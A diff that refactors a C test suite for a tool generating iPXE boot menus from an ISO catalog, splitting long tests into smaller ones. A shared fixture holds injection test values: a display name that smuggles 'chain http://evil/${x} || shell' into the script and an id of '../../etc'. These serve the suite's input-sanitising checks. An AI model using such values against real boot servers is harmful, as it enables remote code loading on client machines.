@@ -382,42 +382,56 @@ static bool line_in(const char *text, const char *line)
 		}                                                                                  \
 	} while (0)
 
+/* A catalog of every kind of boot, and of names and ids that must not reach the script as they
+ * are; the tests find its entries by name, as sorting moves them. */
+static void script_catalog(struct catalog *c)
+{
+	catalog_init(c);
+	struct catalog_entry *bios = add(c, "grub.iso", "", "grub-rescue");
+	boot(bios, ISO_PLATFORM_BIOS, ISO_EMUL_NONE);
+	struct catalog_entry *both = add(c, "linux/debian.iso", "linux", "debian-12");
+	boot(both, ISO_PLATFORM_BIOS, ISO_EMUL_NONE);
+	boot(both, ISO_PLATFORM_UEFI, ISO_EMUL_NONE);
+	struct catalog_entry *uefi = add(c, "linux/efi-only.iso", "linux", "efi-only");
+	boot(uefi, ISO_PLATFORM_UEFI, ISO_EMUL_NONE);
+	struct catalog_entry *mt = add(c, "tools/memtest86+x64.iso", "tools", "memtest86+x64");
+	boot(mt, ISO_PLATFORM_BIOS, ISO_EMUL_FLOPPY_1440);
+	boot(mt, ISO_PLATFORM_UEFI, ISO_EMUL_NONE);
+	struct catalog_entry *fd = add(c, "tools/fdos.iso", "tools", "floppy-only");
+	boot(fd, ISO_PLATFORM_BIOS, ISO_EMUL_HDD);
+	add(c, "data.iso", "", "data disc");
+	struct catalog_entry *ppc = add(c, "ppc.iso", "", "ppc");
+	boot(ppc, ISO_PLATFORM_PPC, ISO_EMUL_NONE);
+	struct catalog_entry *evil =
+	    add(c, "evil/x.iso", "evil\n:bios-menu", "x\nchain http://evil/${x} || shell\\");
+	boot(evil, ISO_PLATFORM_BIOS, ISO_EMUL_NONE);
+	struct catalog_entry *badid = add(c, "bad.iso", "", "bad id");
+	free(badid->id);
+	badid->id = strdup("../../etc");
+	boot(badid, ISO_PLATFORM_BIOS, ISO_EMUL_NONE);
+	catalog_sort(c);
+}
+
+/* UEFI over HTTP, no memdisk, no timeout, IPv6. */
+static const struct menu_params http_v6_params = {
+    .title = "Lab ${x}\nmenu",
+    .http_base = "http://[2001:db8::1]",
+    .iscsi_host = "[2001:db8::1]",
+    .uefi_boot = MENU_UEFI_HTTP,
+};
+
 static void test_script(void)
 {
 	struct catalog c;
 	char *s = NULL, line[512];
 	size_t len;
 
-	catalog_init(&c);
-	struct catalog_entry *bios = add(&c, "grub.iso", "", "grub-rescue");
-	boot(bios, ISO_PLATFORM_BIOS, ISO_EMUL_NONE);
-	struct catalog_entry *both = add(&c, "linux/debian.iso", "linux", "debian-12");
-	boot(both, ISO_PLATFORM_BIOS, ISO_EMUL_NONE);
-	boot(both, ISO_PLATFORM_UEFI, ISO_EMUL_NONE);
-	struct catalog_entry *uefi = add(&c, "linux/efi-only.iso", "linux", "efi-only");
-	boot(uefi, ISO_PLATFORM_UEFI, ISO_EMUL_NONE);
-	struct catalog_entry *mt = add(&c, "tools/memtest86+x64.iso", "tools", "memtest86+x64");
-	boot(mt, ISO_PLATFORM_BIOS, ISO_EMUL_FLOPPY_1440);
-	boot(mt, ISO_PLATFORM_UEFI, ISO_EMUL_NONE);
-	struct catalog_entry *fd = add(&c, "tools/fdos.iso", "tools", "floppy-only");
-	boot(fd, ISO_PLATFORM_BIOS, ISO_EMUL_HDD);
-	add(&c, "data.iso", "", "data disc");
-	struct catalog_entry *ppc = add(&c, "ppc.iso", "", "ppc");
-	boot(ppc, ISO_PLATFORM_PPC, ISO_EMUL_NONE);
-	struct catalog_entry *evil =
-	    add(&c, "evil/x.iso", "evil\n:bios-menu", "x\nchain http://evil/${x} || shell\\");
-	boot(evil, ISO_PLATFORM_BIOS, ISO_EMUL_NONE);
-	struct catalog_entry *badid = add(&c, "bad.iso", "", "bad id");
-	free(badid->id);
-	badid->id = strdup("../../etc");
-	boot(badid, ISO_PLATFORM_BIOS, ISO_EMUL_NONE);
-	catalog_sort(&c);
-	/* Sorting moved the entries. */
-	bios = by_name(&c, "grub-rescue");
-	both = by_name(&c, "debian-12");
-	uefi = by_name(&c, "efi-only");
-	mt = by_name(&c, "memtest86+x64");
-	fd = by_name(&c, "floppy-only");
+	script_catalog(&c);
+	struct catalog_entry *bios = by_name(&c, "grub-rescue");
+	struct catalog_entry *both = by_name(&c, "debian-12");
+	struct catalog_entry *uefi = by_name(&c, "efi-only");
+	struct catalog_entry *mt = by_name(&c, "memtest86+x64");
+	struct catalog_entry *fd = by_name(&c, "floppy-only");
 
 	struct menu_params p = {
 	    .title = "Lab ${x}\nmenu",
@@ -501,17 +515,25 @@ static void test_script(void)
 	free(bm);
 	free(em);
 	free(s);
+	catalog_finish(&c);
+}
 
-	/* UEFI over HTTP, no memdisk, no timeout, IPv6, a default that only boots on BIOS. */
-	p.uefi_boot = MENU_UEFI_HTTP;
-	p.memdisk = false;
-	p.timeout = 0;
-	p.http_base = "http://[2001:db8::1]";
-	p.iscsi_host = "[2001:db8::1]";
+/* UEFI over HTTP, no memdisk, no timeout, IPv6, a default that only boots on BIOS. */
+static void test_script_http_v6(void)
+{
+	struct catalog c;
+	char *s = NULL, line[512];
+	size_t len;
+
+	script_catalog(&c);
+	struct catalog_entry *bios = by_name(&c, "grub-rescue");
+	struct catalog_entry *both = by_name(&c, "debian-12");
+	struct catalog_entry *mt = by_name(&c, "memtest86+x64");
+	struct menu_params p = http_v6_params;
 	p.default_entry = bios->id;
 	CHECK_EQ_INT(menu_script(&c, &p, &s, &len), 0);
-	bm = section(s, "bios-menu");
-	em = section(s, "efi-menu");
+	char *bm = section(s, "bios-menu");
+	char *em = section(s, "efi-menu");
 	CHECK_LINE(bm, "item --gap -- memtest86+x64 (needs memdisk on the server)");
 	snprintf(line, sizeof(line), "choose --default bios-%s isoboot-target || goto start",
 		 bios->id);
@@ -520,7 +542,7 @@ static void test_script(void)
 		 both->id);
 	CHECK_LINE(em, line);
 	snprintf(line, sizeof(line), "efi-%s", mt->id);
-	sec = section(s, line);
+	char *sec = section(s, line);
 	snprintf(line, sizeof(line),
 		 "sanboot --no-describe http://[2001:db8::1]/iso/%s/memtest86%%2Bx64.iso || goto "
 		 "failed",
@@ -536,8 +558,16 @@ static void test_script(void)
 	free(em);
 	free(s);
 	catalog_finish(&c);
+}
 
-	/* An empty catalog is a menu that says so. */
+/* An empty catalog is a menu that says so. */
+static void test_script_empty(void)
+{
+	struct catalog c;
+	char *s = NULL;
+	size_t len;
+	struct menu_params p = http_v6_params;
+
 	catalog_init(&c);
 	CHECK_EQ_INT(menu_script(&c, &p, &s, &len), 0);
 	CHECK_LINE(s, "item --gap -- No ISOs yet: put images in the ISO folder");
@@ -617,35 +647,55 @@ static void test_script_urls_accepted(void)
 	catalog_finish(&c);
 }
 
-static void test_script_recipe(void)
+/* debian-live with a recipe that needs 1.5 GiB of RAM, and "another", which sorts first. */
+static void recipe_catalog(struct catalog *c)
 {
-	struct catalog c;
-	char *s = NULL, line[1024];
-	size_t len;
 	const uint64_t ram = 3ull << 29; /* 1.5 GiB */
 
-	catalog_init(&c);
-	struct catalog_entry *live = add(&c, "linux/debian-live.iso", "linux", "debian-live");
+	catalog_init(c);
+	struct catalog_entry *live = add(c, "linux/debian-live.iso", "linux", "debian-live");
 	boot(live, ISO_PLATFORM_BIOS, ISO_EMUL_NONE);
 	boot(live, ISO_PLATFORM_UEFI, ISO_EMUL_NONE);
 	give_recipe(live,
 		    "boot=live components quiet splash fetch={files}/live/filesystem.squashfs "
 		    "iso={iso} srv={server} keep={other} {",
 		    ram);
-	struct catalog_entry *plain = add(&c, "linux/another.iso", "linux", "another");
+	struct catalog_entry *plain = add(c, "linux/another.iso", "linux", "another");
 	boot(plain, ISO_PLATFORM_BIOS, ISO_EMUL_NONE);
-	catalog_sort(&c);
-	live = by_name(&c, "debian-live");
-	plain = by_name(&c, "another");
-	const char *id = live->id;
+	catalog_sort(c);
+}
 
-	struct menu_params p = {
-	    .title = "Lab",
-	    .timeout = 5,
-	    .http_base = "http://192.0.2.1:8080",
-	    .iscsi_host = "192.0.2.1",
-	    .uefi_boot = MENU_UEFI_ISCSI,
-	};
+static const struct menu_params recipe_params = {
+    .title = "Lab",
+    .timeout = 5,
+    .http_base = "http://192.0.2.1:8080",
+    .iscsi_host = "192.0.2.1",
+    .uefi_boot = MENU_UEFI_ISCSI,
+};
+
+/* The answer to the script's question for ${memsize}, and debian-live the default. */
+static struct menu_params recipe_params_answered(uint64_t memsize_mib)
+{
+	struct menu_params p = recipe_params;
+
+	p.memsize_asked = true;
+	p.memsize_mib = memsize_mib;
+	p.default_entry = "debian-live.iso";
+	return p;
+}
+
+static void test_script_recipe(void)
+{
+	struct catalog c;
+	char *s = NULL, line[1024];
+	size_t len;
+
+	recipe_catalog(&c);
+	struct catalog_entry *live = by_name(&c, "debian-live");
+	struct catalog_entry *plain = by_name(&c, "another");
+	const char *id = live->id;
+	struct menu_params p = recipe_params;
+
 	CHECK_EQ_INT(menu_script(&c, &p, &s, &len), 0);
 	/* iPXE is asked for its ${memsize}, once, before anything else. */
 	CHECK(lines_follow(s,
@@ -704,15 +754,24 @@ static void test_script_recipe(void)
 	free(bm);
 	free(em);
 	free(s);
+	catalog_finish(&c);
+}
 
-	/* The answer to the question: no question again; enough RAM, the recipe is offered. */
-	p.memsize_asked = true;
-	p.memsize_mib = 2048;
-	p.default_entry = "debian-live.iso";
+/* The answer to the question: no question again; enough RAM, the recipe is offered. */
+static void test_script_recipe_enough_ram(void)
+{
+	struct catalog c;
+	char *s = NULL, line[1024];
+	size_t len;
+
+	recipe_catalog(&c);
+	const char *id = by_name(&c, "debian-live")->id;
+	struct menu_params p = recipe_params_answered(2048);
+
 	CHECK_EQ_INT(menu_script(&c, &p, &s, &len), 0);
 	CHECK(strstr(s, "isset ${memsize}") == NULL);
 	CHECK(strstr(s, "needs 1.5 GiB of RAM, this machine") == NULL);
-	bm = section(s, "bios-menu");
+	char *bm = section(s, "bios-menu");
 	snprintf(line, sizeof(line), "item -- bios-%s debian-live", id);
 	CHECK_LINE(bm, line);
 	snprintf(line, sizeof(line),
@@ -720,12 +779,23 @@ static void test_script_recipe(void)
 	CHECK_LINE(bm, line);
 	free(bm);
 	free(s);
+	catalog_finish(&c);
+}
 
-	/* Too little RAM: said so, and the default falls to the SAN boot. */
-	p.memsize_mib = 1024;
+/* Too little RAM: said so, and the default falls to the SAN boot. */
+static void test_script_recipe_too_little_ram(void)
+{
+	struct catalog c;
+	char *s = NULL, line[1024], a[256], b[256];
+	size_t len;
+
+	recipe_catalog(&c);
+	const char *id = by_name(&c, "debian-live")->id;
+	struct menu_params p = recipe_params_answered(1024);
+
 	CHECK_EQ_INT(menu_script(&c, &p, &s, &len), 0);
-	bm = section(s, "bios-menu");
-	em = section(s, "efi-menu");
+	char *bm = section(s, "bios-menu");
+	char *em = section(s, "efi-menu");
 	snprintf(a, sizeof(a),
 		 "item --gap -- debian-live: needs 1.5 GiB of RAM, this machine has 1 GiB");
 	snprintf(b, sizeof(b), "item -- bios-%s-san debian-live (boot from SAN)", id);
@@ -741,8 +811,19 @@ static void test_script_recipe(void)
 	free(bm);
 	free(em);
 	free(s);
-	/* Exactly enough is enough; 1 MiB less is not. */
-	p.memsize_mib = 1536;
+	catalog_finish(&c);
+}
+
+/* Exactly enough is enough; 1 MiB less is not. */
+static void test_script_recipe_ram_boundary(void)
+{
+	struct catalog c;
+	char *s = NULL;
+	size_t len;
+
+	recipe_catalog(&c);
+	struct menu_params p = recipe_params_answered(1536);
+
 	CHECK_EQ_INT(menu_script(&c, &p, &s, &len), 0);
 	CHECK(strstr(s, "this machine has") == NULL);
 	free(s);
@@ -750,18 +831,41 @@ static void test_script_recipe(void)
 	CHECK_EQ_INT(menu_script(&c, &p, &s, &len), 0);
 	CHECK(strstr(s, "needs 1.5 GiB of RAM, this machine has 1.5 GiB") != NULL);
 	free(s);
-	/* Not asked (an iPXE without ${memsize}): offered, no question asked again. */
-	p.memsize_mib = 0;
+	catalog_finish(&c);
+}
+
+/* Not asked (an iPXE without ${memsize}): offered, no question asked again. */
+static void test_script_recipe_memsize_unknown(void)
+{
+	struct catalog c;
+	char *s = NULL;
+	size_t len;
+
+	recipe_catalog(&c);
+	struct menu_params p = recipe_params_answered(0);
+
 	CHECK_EQ_INT(menu_script(&c, &p, &s, &len), 0);
 	CHECK(strstr(s, "this machine has") == NULL);
 	CHECK(strstr(s, "isset ${memsize}") == NULL);
 	free(s);
+	catalog_finish(&c);
+}
 
-	/* UEFI over HTTP: the second entry is the HTTP SAN boot. */
+/* UEFI over HTTP: the second entry is the HTTP SAN boot. */
+static void test_script_recipe_uefi_http(void)
+{
+	struct catalog c;
+	char *s = NULL, line[1024];
+	size_t len;
+
+	recipe_catalog(&c);
+	const char *id = by_name(&c, "debian-live")->id;
+	struct menu_params p = recipe_params_answered(0);
+
 	p.uefi_boot = MENU_UEFI_HTTP;
 	CHECK_EQ_INT(menu_script(&c, &p, &s, &len), 0);
 	snprintf(line, sizeof(line), "efi-%s-san", id);
-	sec = section(s, line);
+	char *sec = section(s, line);
 	snprintf(
 	    line, sizeof(line),
 	    "sanboot --no-describe http://192.0.2.1:8080/iso/%s/debian-live.iso || goto failed",
@@ -770,6 +874,24 @@ static void test_script_recipe(void)
 	free(sec);
 	free(s);
 	catalog_finish(&c);
+}
+
+static const struct menu_params plain_params = {
+    .title = "T",
+    .http_base = "http://192.0.2.1",
+    .iscsi_host = "192.0.2.1",
+    .uefi_boot = MENU_UEFI_ISCSI,
+};
+
+/* A catalog of one BIOS ISO with a recipe, booting as the emulation says. */
+static struct catalog_entry *one_recipe(struct catalog *c, const char *path, const char *name,
+					enum iso_emulation em)
+{
+	catalog_init(c);
+	struct catalog_entry *e = add(c, path, "", name);
+	boot(e, ISO_PLATFORM_BIOS, em);
+	give_recipe(e, "boot=live", 1);
+	return e;
 }
 
 static void test_script_recipe_refused(void)
@@ -786,12 +908,7 @@ static void test_script_recipe_refused(void)
 	static const char *const bad_kernels[] = {
 	    "live/vm linuz", "live/vm@linuz", "live/", "live/vmlinuz?x", "live/vm%20linuz",
 	};
-	struct menu_params p = {
-	    .title = "T",
-	    .http_base = "http://192.0.2.1",
-	    .iscsi_host = "192.0.2.1",
-	    .uefi_boot = MENU_UEFI_ISCSI,
-	};
+	struct menu_params p = plain_params;
 
 	for (size_t i = 0; i < ARRAY_SIZE(unsafe) + ARRAY_SIZE(bad_kernels) + 3; i++) {
 		catalog_init(&c);
@@ -836,12 +953,17 @@ static void test_script_recipe_refused(void)
 		}
 		catalog_finish(&c);
 	}
+}
 
-	/* A recipe is offered only where the ISO boots at all: not on UEFI for a BIOS-only ISO. */
-	catalog_init(&c);
-	struct catalog_entry *e = add(&c, "x.iso", "", "x");
-	boot(e, ISO_PLATFORM_BIOS, ISO_EMUL_NONE);
-	give_recipe(e, "boot=live", 1);
+/* A recipe is offered only where the ISO boots at all: not on UEFI for a BIOS-only ISO. */
+static void test_script_recipe_bios_only(void)
+{
+	struct catalog c;
+	char *s = NULL, line[512];
+	size_t len;
+	struct menu_params p = plain_params;
+	struct catalog_entry *e = one_recipe(&c, "x.iso", "x", ISO_EMUL_NONE);
+
 	CHECK(menu_recipe_usable(e, false));
 	CHECK(!menu_recipe_usable(e, true));
 	CHECK_EQ_INT(menu_script(&c, &p, &s, &len), 0);
@@ -854,12 +976,17 @@ static void test_script_recipe_refused(void)
 	free(sec);
 	free(s);
 	catalog_finish(&c);
+}
 
-	/* A floppy-emulated BIOS boot: the recipe, then memdisk. */
-	catalog_init(&c);
-	e = add(&c, "fd.iso", "", "fd");
-	boot(e, ISO_PLATFORM_BIOS, ISO_EMUL_FLOPPY_1440);
-	give_recipe(e, "boot=live", 1);
+/* A floppy-emulated BIOS boot: the recipe, then memdisk. */
+static void test_script_recipe_floppy_memdisk(void)
+{
+	struct catalog c;
+	char *s = NULL;
+	size_t len;
+	struct menu_params p = plain_params;
+	struct catalog_entry *e = one_recipe(&c, "fd.iso", "fd", ISO_EMUL_FLOPPY_1440);
+
 	p.memdisk = true;
 	CHECK_EQ_INT(menu_script(&c, &p, &s, &len), 0);
 	char *bm = section(s, "bios-menu");
@@ -869,10 +996,22 @@ static void test_script_recipe_refused(void)
 	CHECK(lines_follow(bm, a, b));
 	free(bm);
 	free(s);
-	/* Without memdisk on the server: the recipe and a gap line. */
+	catalog_finish(&c);
+}
+
+/* Without memdisk on the server: the recipe and a gap line. */
+static void test_script_recipe_floppy_no_memdisk(void)
+{
+	struct catalog c;
+	char *s = NULL, line[512], a[256];
+	size_t len;
+	struct menu_params p = plain_params;
+	struct catalog_entry *e = one_recipe(&c, "fd.iso", "fd", ISO_EMUL_FLOPPY_1440);
+
+	snprintf(a, sizeof(a), "item -- bios-%s fd", e->id);
 	p.memdisk = false;
 	CHECK_EQ_INT(menu_script(&c, &p, &s, &len), 0);
-	bm = section(s, "bios-menu");
+	char *bm = section(s, "bios-menu");
 	CHECK(lines_follow(bm, a, "item --gap -- fd (needs memdisk on the server)"));
 	snprintf(line, sizeof(line), "choose --default bios-%s isoboot-target || goto start",
 		 e->id);
@@ -883,47 +1022,54 @@ static void test_script_recipe_refused(void)
 }
 
 /* The settings of an ISO's sidecar file: extra parameters, the method first, hidden. */
+static void settings_catalog(struct catalog *c)
+{
+	catalog_init(c);
+	struct catalog_entry *live = add(c, "a-live.iso", "", "Lab live");
+	boot(live, ISO_PLATFORM_BIOS, ISO_EMUL_NONE);
+	boot(live, ISO_PLATFORM_UEFI, ISO_EMUL_NONE);
+	give_recipe(live, "boot=live fetch={files}/live/filesystem.squashfs", 1);
+	live->extra = strdup("nomodeset preseed/url={files}/preseed.cfg srv={server}");
+	struct catalog_entry *san = add(c, "b-san.iso", "", "b-san");
+	boot(san, ISO_PLATFORM_BIOS, ISO_EMUL_NONE);
+	boot(san, ISO_PLATFORM_UEFI, ISO_EMUL_NONE);
+	give_recipe(san, "boot=live", 1);
+	san->extra = strdup("not-for-sanboot");
+	san->method = CATALOG_METHOD_SANBOOT;
+	struct catalog_entry *md = add(c, "c-md.iso", "", "c-md");
+	boot(md, ISO_PLATFORM_BIOS, ISO_EMUL_NONE);
+	boot(md, ISO_PLATFORM_UEFI, ISO_EMUL_NONE);
+	md->method = CATALOG_METHOD_MEMDISK;
+	struct catalog_entry *hid = add(c, "d-hidden.iso", "hidden-group", "d-hidden");
+	boot(hid, ISO_PLATFORM_BIOS, ISO_EMUL_NONE);
+	hid->hidden = true;
+	catalog_sort(c);
+}
+
+static const struct menu_params settings_params = {
+    .title = "Lab",
+    .http_base = "http://192.0.2.1",
+    .iscsi_host = "192.0.2.1",
+    .uefi_boot = MENU_UEFI_ISCSI,
+    .memdisk = true,
+    .memsize_asked = true,
+    .memsize_mib = 4096,
+    .default_entry = "b-san.iso",
+};
+
 static void test_script_settings(void)
 {
 	struct catalog c;
 	char *s = NULL, line[1024], a[256], b[256];
 	size_t len;
 
-	catalog_init(&c);
-	struct catalog_entry *live = add(&c, "a-live.iso", "", "Lab live");
-	boot(live, ISO_PLATFORM_BIOS, ISO_EMUL_NONE);
-	boot(live, ISO_PLATFORM_UEFI, ISO_EMUL_NONE);
-	give_recipe(live, "boot=live fetch={files}/live/filesystem.squashfs", 1);
-	live->extra = strdup("nomodeset preseed/url={files}/preseed.cfg srv={server}");
-	struct catalog_entry *san = add(&c, "b-san.iso", "", "b-san");
-	boot(san, ISO_PLATFORM_BIOS, ISO_EMUL_NONE);
-	boot(san, ISO_PLATFORM_UEFI, ISO_EMUL_NONE);
-	give_recipe(san, "boot=live", 1);
-	san->extra = strdup("not-for-sanboot");
-	san->method = CATALOG_METHOD_SANBOOT;
-	struct catalog_entry *md = add(&c, "c-md.iso", "", "c-md");
-	boot(md, ISO_PLATFORM_BIOS, ISO_EMUL_NONE);
-	boot(md, ISO_PLATFORM_UEFI, ISO_EMUL_NONE);
-	md->method = CATALOG_METHOD_MEMDISK;
-	struct catalog_entry *hid = add(&c, "d-hidden.iso", "hidden-group", "d-hidden");
-	boot(hid, ISO_PLATFORM_BIOS, ISO_EMUL_NONE);
-	hid->hidden = true;
-	catalog_sort(&c);
-	live = by_name(&c, "Lab live");
-	san = by_name(&c, "b-san");
-	md = by_name(&c, "c-md");
-	hid = by_name(&c, "d-hidden");
+	settings_catalog(&c);
+	struct catalog_entry *live = by_name(&c, "Lab live");
+	struct catalog_entry *san = by_name(&c, "b-san");
+	struct catalog_entry *md = by_name(&c, "c-md");
+	struct catalog_entry *hid = by_name(&c, "d-hidden");
+	struct menu_params p = settings_params;
 
-	struct menu_params p = {
-	    .title = "Lab",
-	    .http_base = "http://192.0.2.1",
-	    .iscsi_host = "192.0.2.1",
-	    .uefi_boot = MENU_UEFI_ISCSI,
-	    .memdisk = true,
-	    .memsize_asked = true,
-	    .memsize_mib = 4096,
-	    .default_entry = "b-san.iso",
-	};
 	CHECK_EQ_INT(menu_script(&c, &p, &s, &len), 0);
 	char *bm = section(s, "bios-menu"), *em = section(s, "efi-menu");
 	/* The display name; the recipe first (auto). */
@@ -970,10 +1116,21 @@ static void test_script_settings(void)
 	free(bm);
 	free(em);
 	free(s);
-	/* Without memdisk on the server, method = memdisk says so on BIOS. */
+	catalog_finish(&c);
+}
+
+/* Without memdisk on the server, method = memdisk says so on BIOS. */
+static void test_script_settings_no_memdisk(void)
+{
+	struct catalog c;
+	char *s = NULL;
+	size_t len;
+	struct menu_params p = settings_params;
+
+	settings_catalog(&c);
 	p.memdisk = false;
 	CHECK_EQ_INT(menu_script(&c, &p, &s, &len), 0);
-	bm = section(s, "bios-menu");
+	char *bm = section(s, "bios-menu");
 	CHECK_LINE(bm, "item --gap -- c-md (needs memdisk on the server)");
 	free(bm);
 	free(s);
@@ -1204,10 +1361,21 @@ int main(void)
 	RUN(test_url_file);
 	RUN(test_sanitize);
 	RUN(test_script);
+	RUN(test_script_http_v6);
+	RUN(test_script_empty);
 	RUN(test_script_urls_accepted);
 	RUN(test_script_recipe);
+	RUN(test_script_recipe_enough_ram);
+	RUN(test_script_recipe_too_little_ram);
+	RUN(test_script_recipe_ram_boundary);
+	RUN(test_script_recipe_memsize_unknown);
+	RUN(test_script_recipe_uefi_http);
 	RUN(test_script_recipe_refused);
+	RUN(test_script_recipe_bios_only);
+	RUN(test_script_recipe_floppy_memdisk);
+	RUN(test_script_recipe_floppy_no_memdisk);
 	RUN(test_script_settings);
+	RUN(test_script_settings_no_memdisk);
 	RUN(test_script_efi_arch);
 	RUN(test_grub_script);
 	RUN(test_script_unrecognised);
